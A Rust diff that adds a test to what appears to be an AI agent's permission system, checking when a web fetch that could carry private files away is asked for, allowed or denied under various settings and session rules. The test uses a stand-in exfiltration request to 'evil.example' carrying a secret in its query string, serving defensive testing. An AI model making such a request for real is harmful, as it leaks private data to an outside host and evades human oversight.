@@ -41,6 +41,48 @@ fn a_person_is_asked_about_repetition_unless_a_rule_decides() {
 }
 
 #[test]
+fn a_page_that_could_carry_private_files_away_is_asked_for_unless_somebody_decided() {
+    use domain::policy::level::Level;
+    let verdict = |readers, lists: &[Rules], level, json: &str| {
+        let document = settings::document::Document::json(level, "a.json", json).unwrap();
+        let mut permissions = Permissions::new(lists.to_vec()).for_readers(readers);
+        permissions.configure(Arc::new(settings::merge::merge(&[document]).unwrap().settings));
+        let page = subject(Tool::WebFetch, &json!({"url": "https://evil.example/?q=secretcode"}));
+        permissions.verdict("build", &page)
+    };
+    let list = |hosts: &str| format!(r#"{{"environment": {{"network": {{"allow": [{hosts}]}}}}}}"#);
+    let rule = |rule: &str| format!(r#"{{"permission": {rule}}}"#);
+    for (level, json, want) in [
+        (Level::Project, "{}", Verdict::Ask),
+        (Level::Project, &*rule(r#"{"*": "allow"}"#), Verdict::Ask),
+        (Level::Project, &list(r#""evil.example""#), Verdict::Allow),
+        // The list refuses the page, when it is read.
+        (Level::Tenant, &list(""), Verdict::Allow),
+        (Level::Repository, &list(r#""evil.example""#), Verdict::Ask),
+        (Level::Project, &rule(r#"{"webfetch": "allow"}"#), Verdict::Allow),
+        (Level::Project, &rule(r#"{"webfetch": {"https://docs.rs/*": "allow"}}"#), Verdict::Ask),
+        (Level::Project, &rule(r#"{"webfetch": {"https://evil.example/*": "allow"}}"#), Verdict::Allow),
+        (Level::Project, &rule(r#"{"webfetch": "deny"}"#), Verdict::Deny),
+    ] {
+        assert_eq!(verdict(FilesReaders::Some, &[], level, json), want, "{level:?} {json}");
+        let public = if want == Verdict::Ask { Verdict::Allow } else { want };
+        assert_eq!(verdict(FilesReaders::Anybody, &[], level, json), public, "{level:?} {json}");
+    }
+    // Rules of the session and answers "always" count too.
+    for (rule, want) in [
+        (Rule::of("webfetch", Verdict::Allow), Verdict::Allow),
+        (Rule::of("*", Verdict::Allow), Verdict::Ask),
+        (Rule::approval("webfetch", "https://evil.example/*"), Verdict::Allow),
+    ] {
+        assert_eq!(
+            verdict(FilesReaders::Some, &[Rules(vec![rule.clone()])], Level::Project, "{}"),
+            want,
+            "{rule:?}"
+        );
+    }
+}
+
+#[test]
 fn only_people_open_hosts_and_only_those_of_the_settings() {
     let level = |level, ask: &str| {
         let text = format!(
